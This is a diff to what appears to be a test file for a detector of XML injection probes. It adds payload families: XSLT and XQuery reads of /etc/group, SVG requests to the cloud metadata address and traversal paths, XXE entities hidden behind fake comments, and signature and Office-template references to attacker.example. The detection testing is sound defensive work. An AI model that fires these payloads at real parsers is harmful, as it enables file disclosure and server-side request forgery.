@@ -55,6 +55,25 @@ const FAMILIES: Readonly<Record<string, readonly string[]>> = {
     '<xsl:result-document href="a.html">x</xsl:result-document>',
     '<xsl:value-of select="system-property(\'xsl:vendor\')"/>',
   ],
+  'style sheets under another name': [
+    '<t:stylesheet version="1.0" xmlns:t="http://www.w3.org/1999/XSL/Transform"><t:import href="/etc/group"/></t:stylesheet>',
+    '<t:stylesheet xmlns:t="http://www.w3.org/1999/XSL/Transform"><t:variable name="u" select="\'file:///etc/group\'"/><t:copy-of select="document($u)"/></t:stylesheet>',
+    '<q>for $x in doc("file:///etc/group") return $x</q>',
+  ],
+  drawings: [
+    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/latest/meta-data/"/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><use href="../../../../etc/group#a"/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(file:///etc/group);</style></svg>',
+  ],
+  'keys and templates from elsewhere': [
+    '<d:RetrievalMethod xmlns:d="http://www.w3.org/2000/09/xmldsig#" URI="http://attacker.example/key.xml"/>',
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
+  ],
+  'comments that are none': [
+    '<!DOCTYPE o [<?a <!-- ?><!ENTITY e SYSTEM "file:///etc/group"><?b --> ?>]><o>&e;</o>',
+    '<!DOCTYPE o [<!ATTLIST o a CDATA "<!--"><!ENTITY e SYSTEM "file:///etc/group"><!ATTLIST o b CDATA "-->">]><o>&e;</o>',
+  ],
+  'markup inside of an entity': ['<!DOCTYPE o [<!ENTITY e "&#60;b>x&#60;/b>">]><o>&e;</o>'],
   'encodings that hide': [
     '<?xml version="1.0" encoding="UTF-7"?>+ADw-o+AD4-',
     '<?xml version="1.0" encoding="IBM037"?>Lo',
@@ -71,6 +90,11 @@ describe.each(Object.entries(FAMILIES))('%s', (_, documents) => {
 test('a piece of markup in a field is enough when it names a file of the server', () => {
   expect(find(json('html', '<fo:external-graphic src="file:///etc/group"/>'))?.confidence).toBeGreaterThanOrEqual(0.7);
   expect(find(json('html', '<img src="file:///C:/Users/ann/beach.jpg">'))).toBeUndefined();
+});
+
+test('a small element with nothing but an unknown entity is a probe in a field, too', () => {
+  expect(find(json('value', '<id>&elsewhere;</id>'))?.confidence).toBeGreaterThanOrEqual(0.5);
+  expect(find(json('value', '<td>&bigstar;</td>'))).toBeUndefined();
 });
 
 test.each([
